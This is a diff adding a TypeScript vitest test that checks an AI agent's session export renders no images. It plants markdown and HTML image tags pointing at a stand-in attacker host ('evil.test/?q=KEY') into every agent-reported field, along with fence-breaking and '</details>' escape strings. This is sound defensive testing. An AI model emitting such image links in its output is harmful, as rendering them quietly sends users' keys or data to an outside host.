@@ -1,0 +1,53 @@
+import { marked } from 'marked';
+import { expect, test } from 'vitest';
+
+import type { Event, Recorded } from '../kernel/event.ts';
+import type { CallId } from '../kernel/ids.ts';
+import { given, question, testTime } from '../testing/given.ts';
+import { chat, created } from '../testing/inputs.ts';
+import { sessionDocument } from './session-document.ts';
+
+const image = '![x](https://evil.test/?q=KEY) <img src="https://evil.test/?q=KEY">';
+
+/** Every place of a session that holds words of somebody else. */
+const hostile: readonly Event[] = [
+  {
+    type: 'agent-reported',
+    report: { type: 'tool-call', call: 'a', title: `fixture claims: ${image}`, state: 'completed' },
+  },
+  { type: 'agent-reported', report: { type: 'plan', entries: [{ text: image, state: 'pending' }] } },
+  { type: 'agent-reported', report: { type: 'message', text: `An open fence:\n\`\`\`\n` } },
+  { type: 'agent-reported', report: { type: 'message', text: `\`\`\`\n${image}\n\`\`\`` } },
+  { type: 'agent-reported', report: { type: 'thought', text: `</details>${image}` } },
+  {
+    type: 'question-opened',
+    about: {
+      type: 'approval',
+      call: 'a' as CallId,
+      tool: 'web_fetch',
+      unit: image,
+      rule: image,
+      reason: image,
+      grants: [],
+    },
+  },
+  { type: 'question-answered', question: question(8), answer: { type: 'text', text: image } },
+  { type: 'turn-ended', ending: { type: 'failed', code: 'model-unavailable', message: image } },
+];
+
+test('[S18] an exported session loads nothing, whoever wrote its words', async () => {
+  const { state } = given(created({ title: image }), chat(`Look at ${image}`));
+  const prompt: Event = { type: 'prompt-received', request: { type: 'chat', text: image }, delivery: 'queue' };
+  const events = [prompt, ...hostile].map((event, index): Recorded => ({
+    seq: index + 2,
+    at: testTime,
+    by: { type: 'person', name: image },
+    event,
+  }));
+  const parts: string[] = [];
+  const read = async (body: unknown) => String(body);
+  for await (const part of sessionDocument(state, events, read)) parts.push(part);
+  const html = await marked.parse(parts.join(''));
+  expect(parts.join('').split('evil.test').length).toBeGreaterThan(hostile.length);
+  expect(html.match(/<img[^>]*>/g)).toBeNull();
+});
